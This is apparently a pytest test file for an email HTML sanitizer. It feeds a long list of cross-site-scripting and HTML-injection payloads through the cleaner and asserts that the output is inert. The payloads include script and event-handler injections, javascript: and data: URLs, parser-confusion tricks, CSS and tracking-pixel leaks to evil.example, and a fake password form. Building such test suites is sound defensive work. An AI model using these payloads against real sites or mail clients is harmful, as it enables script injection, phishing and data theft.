"""A stranger's HTML: what comes out is inert, whatever goes in."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relevo.channels.mail.mime import markup, tidying
from relevo.channels.mail.mime.markup import Cleaned

# Written for this test, after the kinds of trick in public lists: handlers, schemes, foreign content, parser confusion.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<img/src/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=9 y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY e '<script>alert(1)</script>'>]>&e;",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select><noembed></select><script>alert(1)</script></noembed>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='javascript:123'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='\\\\evil.example\\x'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) target=_blank style='position:fixed'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src=javascript:alert(1)>",
    "<img srcset='https://evil.example/p 1x'>",
    "<img src='https://evil.example/pixel?id=7'>",
    "<table background='https://evil.example/p'><tr><td background=//evil.example/q>x</td></tr></table>",
    "<p style='background:url(https://evil.example/p)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='color:#fff;background:#fff'>hidden</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password type=password><button>Sign in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a id=location name=cookie class=modal href=https://ok.example>x</a>",
    "<div id=body name=attributes><img name=getElementById></div>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=0>x</p>",
    "<a href=https://ok.example ping=https://evil.example/p>x</a>",
    "<div hx-get=/api/tokens hx-trigger=load data-x=1>x</div>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<b title='<img src=x onerror=alert(1)>'>x</b>",
    '<b title="&quot;><script>alert(1)</script>">x</b>',
    "<b title='a\"onmouseover=alert(1) b'>x</b>",
    "<p dir='ltr\" onclick=\"alert(1)'>x</p>",
    "\x00<\x00script\x00>alert(1)</script>",
    "<\u017fcript>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    '<a href="https://ok.example/?q=<script>">x</a>',
]

ALLOWED_URL = re.compile(r"(?:https?://|mailto:|tel:|cid:)")


class Inspector(HTMLParser):
    """Reads cleaned HTML as a browser would and objects to anything that is not inert."""

    def handle_starttag(self, tag, attrs):
        assert tag in tidying.TAGS, tag
        allowed = tidying.ATTRIBUTES["*"] | tidying.ATTRIBUTES.get(tag, set()) | {"rel"}
        for name, value in attrs:
            assert name in allowed, (tag, name)
            if name in {"href", "src"}:
                assert ALLOWED_URL.match(value or ""), value

    def handle_comment(self, data):
        raise AssertionError(data)

    def handle_decl(self, decl):
        raise AssertionError(decl)

    def handle_pi(self, data):
        raise AssertionError(data)


def inspect(source: str, content_ids: frozenset[str] = frozenset()) -> Cleaned:
    cleaned = markup.clean(source, content_ids)
    assert cleaned is not None
    inspector = Inspector()
    inspector.feed(cleaned.html)
    inspector.close()
    return cleaned


@pytest.mark.parametrize("payload", PAYLOADS)
def test_attack_29_every_payload_is_inert_after_two_readings(payload):
    for source in (
        payload,
        f"<table><tr><td>{payload}",
        f"<b>{payload}</p>",
        f"<svg>{payload}",
        f"<a title='{payload}'>",
    ):
        once = inspect(source).html
        assert inspect(once).html == once


@given(
    st.lists(
        st.one_of(st.sampled_from(PAYLOADS), st.text(alphabet="<>\"'=/& abcsvgonx!-\t\x00", max_size=30)),
        max_size=8,
    )
)
def test_attack_29_mixtures_of_payloads_are_inert(pieces):
    once = inspect("".join(pieces)).html
    assert inspect(once).html == once


def test_attack_33_no_style_survives():
    cleaned = inspect(
        "<style>p{position:fixed}</style><p style='position:fixed' class=x>Hello <font color=white>you</font></p>"
    )
    assert cleaned.html == "<p>Hello you</p>"


def test_attack_34_no_form_survives():
    cleaned = inspect(
        "<form action=//e.example>Sign in <input type=password><button>Go</button><select><option>1</select></form>"
    )
    assert re.findall(r"<(\w+)", cleaned.html) == []
    assert "Sign in" in cleaned.html


def test_attack_35_links_open_nothing_and_send_no_referrer():
    cleaned = inspect("<a href=https://ok.example/a?b=1&c=2 target=_blank>x</a>")
    assert (
        cleaned.html == '<a href="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">x</a>'
    )


def test_attack_36_no_id_and_no_name_survives():
    assert inspect("<p id=x name=y class=z>t</p><img name=forms id=cookie>").html == "<p>t</p><img>"


def test_attack_28_remote_images_are_kept_from_loading_and_reported():
    cleaned = inspect("<p>Hi <img src='https://evil.example/p.gif' alt=logo></p>")
    assert cleaned.html == '<p>Hi <img alt="logo" data-remote="https://evil.example/p.gif"></p>'
    assert cleaned.remote_images


def test_attack_32_only_known_pictures_of_the_mail_are_shown():
    cleaned = inspect(
        '<img src="cid:logo@x" width="20" height="9e9"><img src="cid:page">', frozenset({"logo@x"})
    )
    assert cleaned.html == '<img src="cid:logo@x" width="20"><img>'
    assert cleaned.pictures == {"logo@x"}
    assert not cleaned.remote_images


def test_attack_37_direction_overrides_leave_text_and_titles():
    cleaned = inspect("<a href=https://ok.example title='a\u202eb'>gpj.\u202eexe</a>")
    assert "\u202e" not in cleaned.html


def test_ordinary_html_keeps_its_structure():
    source = (
        "<html><head><title>t</title></head><body><h1>Hola</h1><p dir=ltr lang=es>Uno<br>dos &amp; tres &nbsp;</p>"
        "<ul><li>a<li>b</ul><table><tr><td colspan=2>x</td></tr></table><o:p>office</o:p>"
        "<!--[if mso]>never<![endif]--><![if !mso]>always<![endif]></body></html>"
    )
    assert inspect(source).html == (
        '<h1>Hola</h1><p dir="ltr" lang="es">Uno<br>dos &amp; tres &nbsp;</p><ul><li>a</li><li>b</li></ul>'
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>officealways'
    )


def test_a_bare_ampersand_and_a_lonely_bracket_stay_text():
    assert inspect("a & b < c &copy; &unknown; 1 > 0").html == "a &amp; b &lt; c © &amp;unknown; 1 &gt; 0"


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 2000,
        "<b>" * 3000,
        "<a href=x><b>" * 2000,
        "<table><tr><td>" * 2000,
        "<div><table></div></table>" * 3000,
        "<font>" * 5 + "<i><p>" * 3000,
        "&amp;" * 60_001,
        "\xa0" * 60_001,
        "<" * 60_001,
    ],
)
def test_attack_44_html_that_would_take_a_parser_too_long_is_refused(source):
    assert markup.clean(source) is None


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 900 + "x",
        "<p>x" * 50_000,
        "<li>x" * 50_000,
        "<table><tr><td><span>x</td></tr></table>" * 5000,
        "<b>x</b> " * 20_000,
        "<a " + " ".join(f"x{number}=1" for number in range(50_000)) + ">y</a>",
    ],
)
def test_careless_but_harmless_html_is_read(source):
    assert markup.clean(source) is not None


def test_an_end_tag_closes_what_only_spans_were_left_open_in():
    assert markup.clean("<div><span>a</div>" * 2000) is not None
    assert markup.clean("<div><b>a</div>" * 2000) is None
    assert markup.clean("</p></div></nothing>" * 20_000) is not None


def test_a_very_long_attribute_is_left_out():
    assert (
        inspect(f"<a href='https://ok.example/{'x' * 4000}'>y</a>").html
        == '<a rel="noopener noreferrer nofollow">y</a>'
    )


def test_attack_28_addresses_of_remote_pictures_are_checked_as_well():
    for source in ("data:x", "javascript:x", "file:///x", "https://", "http://a b", "//"):
        assert "data-remote" not in inspect(f"<img data-remote='{source}' src='{source}'>").html
    assert inspect("<img src=//x.example/y>").html == '<img data-remote="https://x.example/y">'


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("<p style='display:none'>a<p>b", "<p>b</p>"),
        (
            "<table><tr style='display: none'><td>a</td></tr><tr><td>b</td></tr></table>",
            "<table><tbody><tr><td>b</td></tr></tbody></table>",
        ),
        ("<div style='visibility:hidden'><div>a</div>b</div>c", "c"),
        ("<img style='display:none' alt=a>b", "b"),
        ("<div style='max-height:0;overflow:hidden'>a</div>b", "b"),
        ("<div style='overflow:hidden;max-height:0px'>a</div>b", "b"),
        ("<div style='font-size:0;max-height:0.5px'>a</div>", "<div>a</div>"),
        ("<div style='display:none'>a", "<div>a</div>"),
        ("<b title='note: display none'>a</b>", '<b title="note: display none">a</b>'),
    ],
)
def test_what_is_hidden_stays_away_unless_it_is_all_there_is(source, html):
    assert inspect(source).html == html
